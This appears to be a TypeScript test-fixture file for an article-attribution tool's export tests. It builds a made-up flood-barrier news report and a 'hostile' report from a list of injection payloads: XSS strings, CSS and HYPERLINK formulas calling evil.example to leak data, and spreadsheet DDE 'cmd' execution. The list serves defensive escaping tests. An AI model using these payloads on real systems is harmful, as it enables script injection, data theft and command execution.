/**
 * Reports for the export tests, built from articles written for these tests (made-up events and
 * people). Spans are found in the text rather than typed in, so a fixture cannot point at the
 * wrong characters.
 */
import { hashText } from '../report/hash';
import { summarize } from '../report/summary';
import type {
  Attribution,
  AttributionKind,
  Contradiction,
  ContradictionKind,
  Report,
  SourceType,
  Span,
} from '../report/types';
import { REPORT_VERSION } from '../report/types';

export interface AttributionSpec {
  /** Index of the paragraph the attribution stands in. */
  para: number;
  content: string;
  source: string | null;
  cue: string | null;
  sourceType: SourceType;
  kind: AttributionKind;
  reason?: string;
  resolved?: string;
  description?: string;
  via?: string;
}

export interface StatementSpec {
  para: number;
  text: string;
  source: string | null;
  attributionId?: string;
}

export interface ContradictionSpec {
  kind: ContradictionKind;
  a: StatementSpec;
  b: StatementSpec | null;
  reason: string;
  confidence: number;
}

export interface ArticleSpec {
  title: string;
  url: string;
  byline?: string | null;
  siteName?: string | null;
  publishedTime?: string | null;
  paragraphs: string[];
  attributions: AttributionSpec[];
  contradictions?: ContradictionSpec[];
}

export function buildReport(spec: ArticleSpec): Report {
  const text = spec.paragraphs.join('\n\n');
  const paraStart: number[] = [];
  let at = 0;
  for (const p of spec.paragraphs) {
    paraStart.push(at);
    at += p.length + 2;
  }
  const find = (para: number, needle: string): Span => {
    const start = text.indexOf(needle, paraStart[para]);
    if (start < 0 || start > paraStart[para] + spec.paragraphs[para].length) {
      throw new Error(`fixture: ${JSON.stringify(needle.slice(0, 40))} not in paragraph ${para}`);
    }
    return { start, end: start + needle.length };
  };
  const paraSpan = (para: number): Span => ({
    start: paraStart[para],
    end: paraStart[para] + spec.paragraphs[para].length,
  });

  const attributions: Attribution[] = spec.attributions.map((a, i) => ({
    id: `a${i + 1}`,
    content: a.content,
    kind: a.kind,
    source: a.source,
    ...(a.resolved ? { resolved: a.resolved } : {}),
    ...(a.description ? { description: a.description } : {}),
    sourceType: a.sourceType,
    ...(a.via ? { via: a.via } : {}),
    cue: a.cue,
    contentSpan: find(a.para, a.content),
    sourceSpan: a.source ? find(a.para, a.source) : null,
    cueSpan: a.cue ? find(a.para, a.cue) : null,
    sentenceSpan: paraSpan(a.para),
    reason: a.reason ?? `${a.sourceType} source + ${JSON.stringify(a.cue ?? '')}`,
  }));
  const contradictions: Contradiction[] = (spec.contradictions ?? []).map((c, i) => {
    const statement = (s: StatementSpec) => ({
      text: s.text,
      span: find(s.para, s.text),
      source: s.source,
      ...(s.attributionId ? { attributionId: s.attributionId } : {}),
    });
    return {
      id: `c${i + 1}`,
      kind: c.kind,
      a: c.a.text,
      b: c.b ? c.b.text : null,
      aStatement: statement(c.a),
      bStatement: c.b ? statement(c.b) : null,
      reason: c.reason,
      confidence: c.confidence,
    };
  });
  return {
    version: REPORT_VERSION,
    article: {
      title: spec.title,
      byline: spec.byline ?? null,
      siteName: spec.siteName ?? null,
      lang: 'en',
      url: spec.url,
      publishedTime: spec.publishedTime ?? null,
      text,
      length: text.length,
      hash: hashText(text),
    },
    attributions,
    contradictions,
    summary: summarize(attributions, contradictions),
    analysisMs: 3.2,
  };
}

/** A made-up local news story with every source type, one contradiction shown and one below the bar. */
export function floodBarrierReport(): Report {
  return buildReport({
    title: 'Harbour City delays its flood barrier as costs climb',
    url: 'https://news.example.org/local/2026/03/harbour-city-flood-barrier?ref=front',
    byline: 'By Ines Varga',
    siteName: 'The Example Tribune',
    publishedTime: '2026-03-14T08:30:00Z',
    paragraphs: [
      'Harbour City delays its flood barrier as costs climb',
      'The council postponed its vote on the flood barrier on Tuesday, a delay that three council officials said was forced by a late change in the cost estimate.',
      '"We will not sign a contract we cannot pay for," said Mayor Lena Okafor, adding that the barrier "remains the city\'s first priority."',
      'Experts warned that another winter without the barrier could leave the lower town exposed.',
      'The Coastal Engineering Board said in a statement that the revised estimate was "well within the normal range" for a project of this size.',
      'According to the Harbour Gazette, the estimate rose by 40 percent in a single month.',
      'A city hall spokeswoman said the council had never received the revised figures. That account appears to be at odds with the minutes of the March meeting, which show the figures were presented to the council.',
      'A report by the regional audit office found that the maintenance budget was underfunded.',
      'She said the vote would take place "as soon as the numbers are settled."',
    ],
    attributions: [
      {
        para: 1,
        content: 'was forced by a late change in the cost estimate',
        source: 'three council officials',
        cue: 'said',
        sourceType: 'anonymous',
        kind: 'indirect',
        reason: 'unnamed "officials" + "said"',
      },
      {
        para: 2,
        content: 'We will not sign a contract we cannot pay for,',
        source: 'Mayor Lena Okafor',
        cue: 'said',
        sourceType: 'named-person',
        kind: 'direct',
        reason: 'quotation marks + "said" + name',
      },
      {
        para: 2,
        content: 'the barrier "remains the city\'s first priority."',
        source: 'Mayor Lena Okafor',
        cue: 'adding',
        sourceType: 'named-person',
        kind: 'mixed',
        reason: 'partial quote + "adding" continues the previous speaker',
      },
      {
        para: 3,
        content: 'another winter without the barrier could leave the lower town exposed',
        source: 'Experts',
        cue: 'warned',
        sourceType: 'vague',
        kind: 'indirect',
        reason: 'vague "experts" + "warned"',
      },
      {
        para: 4,
        content: 'the revised estimate was "well within the normal range" for a project of this size',
        source: 'The Coastal Engineering Board',
        cue: 'said in a statement',
        sourceType: 'named-organization',
        kind: 'mixed',
        reason: 'organisation name + "said in a statement"',
      },
      {
        para: 5,
        content: 'the estimate rose by 40 percent in a single month',
        source: 'the Harbour Gazette',
        cue: 'According to',
        sourceType: 'media',
        kind: 'indirect',
        reason: 'outlet "Gazette" + "according to"',
      },
      {
        para: 6,
        content: 'the council had never received the revised figures',
        source: 'A city hall spokeswoman',
        cue: 'said',
        sourceType: 'anonymous',
        kind: 'indirect',
        reason: 'unnamed "spokeswoman" + "said"',
      },
      {
        para: 7,
        content: 'the maintenance budget was underfunded',
        source: 'A report by the regional audit office',
        cue: 'found',
        sourceType: 'document',
        kind: 'indirect',
        reason: 'document "report" + "found"',
      },
      {
        para: 8,
        content: 'as soon as the numbers are settled.',
        source: 'She',
        resolved: 'A city hall spokeswoman',
        cue: 'said',
        sourceType: 'anonymous',
        kind: 'mixed',
        reason: 'pronoun "She" resolved to "A city hall spokeswoman" + "said"',
      },
    ],
    contradictions: [
      {
        kind: 'explicit',
        a: {
          para: 6,
          text: 'That account appears to be at odds with the minutes of the March meeting, which show the figures were presented to the council.',
          source: null,
        },
        b: {
          para: 6,
          text: 'the council had never received the revised figures',
          source: 'A city hall spokeswoman',
          attributionId: 'a7',
        },
        reason: 'the article says "appears to be at odds with"',
        confidence: 0.9,
      },
      {
        kind: 'cross-source',
        a: {
          para: 4,
          text: 'the revised estimate was "well within the normal range" for a project of this size',
          source: 'The Coastal Engineering Board',
          attributionId: 'a5',
        },
        b: {
          para: 5,
          text: 'the estimate rose by 40 percent in a single month',
          source: 'the Harbour Gazette',
          attributionId: 'a6',
        },
        reason: 'same topic "estimate", opposite tone',
        confidence: 0.3,
      },
    ],
  });
}

/**
 * Strings a hostile page could put in its title, URL or text: markup, script URLs, Markdown links,
 * CSS, spreadsheet formulas, and text that is merely awkward (huge, emoji, right-to-left, newlines).
 */
export const HOSTILE_PAYLOADS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(document.cookie)</script>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  '[x](javascript:alert(1))',
  '![pixel](https://tracker.example/p.gif)',
  '[ref]: javascript:alert(1)',
  '<https://evil.example/>',
  'visit www.evil.com today',
  'mail attacker@evil.com now',
  'bare domain evil.com/path and https://evil.com/x',
  '</textarea><svg onload=alert(1)>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  'x{} * { background: url("https://evil.example/css") }',
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line of a formula cell',
  '# Heading injection',
  '> fake quote',
  '- fake list item',
  '1. fake ordered item',
  '```\ncode fence\n```',
  '| a | b |\n|---|---|',
  '***bold*** _em_ ~~gone~~ `code`',
  '&lt;b&gt;entity&lt;/b&gt; &amp;',
  '<!-- comment --> <?php echo 1; ?>',
  'line one\nline two\r\nline three',
  'quote "inside" and, commas; semicolons',
  'emoji 🎉👩‍👩‍👧 and a flag 🇺🇦',
  'right-to-left \u202Eevil.exe\u202C and \u200F\u05E9\u05DC\u05D5\u05DD',
  'zero\u200Bwidth\uFEFFchars',
  '\\[escaped\\] \\<b>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '＝HYPERLINK("https://evil.example")',
  '"><svg/onload=alert(1)>',
  "'-alert(1)-'",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<details open ontoggle=alert(1)>',
  '<form action=https://evil.example><input name=q></form>',
  'vbscript:msgbox(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
  ':root{--x:url(javascript:alert(1))} width: expression(alert(1))',
  '[link][ref]\n\n[ref]: https://evil.example',
  '[^1] footnote and $$x^2$$ math',
  '@everyone #123 :smile:',
  '\u001b[2J\u001b[31mterminal colours\u001b[0m',
  'null\u0000byte and bell\u0007',
  'line\u2028separator\u2029paragraph',
  'A'.repeat(20000),
];

/** A report whose title, URL, sources, cues, content and reasons all carry hostile payloads. */
export function hostileReport(): Report {
  const paragraphs = HOSTILE_PAYLOADS.map(
    (p, i) => `${p} ~ cue${i} ~ source${i} ${p.slice(0, 12)}`,
  );
  return buildReport({
    title: '<script>alert("title")</script> =HYPERLINK("x") [t](javascript:alert(1))',
    url: 'https://evil.example/a?q=<script>alert(1)</script>&x="onmouseover=alert(1)',
    byline: '<img src=x onerror=alert(2)>',
    siteName: '=cmd|\' /C calc\'!A0',
    publishedTime: 'not a date <b>',
    paragraphs,
    attributions: HOSTILE_PAYLOADS.map((p, i) => ({
      para: i,
      content: p,
      source: `source${i} ${p.slice(0, 12)}`,
      cue: `cue${i}`,
      sourceType: i % 3 === 0 ? 'anonymous' : i % 3 === 1 ? 'vague' : 'named-person',
      kind: 'direct' as const,
      reason: `rule fired on ${p.slice(0, 40)}`,
    })),
    contradictions: [
      {
        kind: 'cross-source',
        a: { para: 0, text: HOSTILE_PAYLOADS[0], source: HOSTILE_PAYLOADS[1] },
        b: { para: 4, text: HOSTILE_PAYLOADS[4], source: HOSTILE_PAYLOADS[13] },
        reason: '<b>because</b> [x](javascript:alert(1))',
        confidence: 0.8,
      },
    ],
  });
}
